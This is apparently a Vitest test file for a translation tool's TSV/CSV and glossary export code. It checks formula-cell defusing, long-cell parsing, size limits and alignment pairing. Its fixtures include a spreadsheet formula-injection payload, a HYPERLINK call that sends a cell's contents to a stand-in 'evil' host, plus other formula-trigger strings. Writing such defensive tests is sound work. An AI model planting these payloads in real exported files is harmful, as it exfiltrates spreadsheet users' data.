import { describe, expect, it } from 'vitest';
import { readGlossaryCsv, writeGlossaryCsv } from '../glossary/csv';
import type { Document } from '../model/document';
import { segmentBlocks } from '../text/segmentation';
import { parseDelimited, writeDelimited } from './delimited';
import { pairFromAlignment } from './from-alignment';
import { readDelimitedTable, writeTsv } from './table';
import { FormatError } from './xml';

const hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

describe('delimited exports', () => {
  it('defuse cells a spreadsheet would run as formulas, in TSV and CSV alike, and read back as written', () => {
    for (const delimiter of ['\t', ','] as const) {
      const text = writeDelimited([['en', 'de'], ...hostile.map((h) => [h, 'safe - text'])], delimiter);
      const cells = parseDelimited(text, delimiter).slice(1).map((r) => r[0]);
      for (const cell of cells) expect(cell).toMatch(/^'/);
      expect(readDelimitedTable(text, delimiter).units.map((u) => u.texts.en)).toEqual(hostile);
    }
    const glossary = { source: 'en', target: 'de', entries: [{ term: '-ing', translations: ['=Endung'] }] };
    expect(writeGlossaryCsv(glossary)).toContain("'-ing,'=Endung");
    expect(readGlossaryCsv(writeGlossaryCsv(glossary), 'en', 'de').entries).toEqual(glossary.entries);
    const tsv = writeTsv({ source: 'en', target: 'de', units: [{ source: '=1+1', target: '@x' }] });
    expect(tsv.split('\r\n')[1]).toBe("1\t'=1+1\t'@x\t\t\t");
  });
});

describe('delimited reading', () => {
  it('keeps a long cell whole, quotes, delimiters and line breaks inside it', () => {
    const long = 'word, "quoted"\tand\nmore '.repeat(20_000);
    const rows = parseDelimited(`a\tb\r\n"${long.replace(/"/g, '""')}"\tx\r\n`, '\t');
    expect(rows).toEqual([['a', 'b'], [long, 'x']]);
  });

  it('refuses a cell of more than a megabyte, naming the file and the row', () => {
    const huge = 'x'.repeat(2 * 1024 * 1024);
    for (const text of [`en\tde\nsmall\tklein\n${huge}\tgroß\n`, `en\tde\nsmall\tklein\n"${huge}`]) {
      expect(() => readDelimitedTable(text, '\t', '"big.tsv"')).toThrow(FormatError);
      expect(() => readDelimitedTable(text, '\t', '"big.tsv"')).toThrow(/"big\.tsv".*row 3/);
    }
  });
});

describe('units from an alignment', () => {
  it('keep the text between the sentences of a row as the document has it', () => {
    const doc = (text: string, id: string): Document => ({ meta: { id, title: id, language: 'en', origin: 'imported' }, ...segmentBlocks([{ text, kind: 'paragraph' }, { text: 'Second paragraph.', kind: 'paragraph' }], 'en') });
    const left = doc('"http://evil/?"&A1 and <![CDATA[x]]> here.  Next one.', 'l');
    const right = doc('Eins. Zwei.', 'r');
    const ids = (d: Document) => d.paragraphs.flatMap((p) => p.sentences.map((s) => s.id));
    const a = ids(left);
    expect(a.length).toBeGreaterThan(3);
    const pair = pairFromAlignment({ left, right, rows: [{ a: a.slice(0, -2), b: [ids(right)[0]!], confidence: 1, startsParagraph: true, checked: false }, { a: a.slice(-2), b: ids(right).slice(1), confidence: 1, startsParagraph: true, checked: false }] });
    expect(pair.units[0]!.source).toBe('"http://evil/?"&A1 and <![CDATA[x]]> here.');
    expect(pair.units[1]!.source).toBe('Next one. Second paragraph.');
    expect(pair.units[1]!.target).toBe('Zwei. Second paragraph.');
  });
});
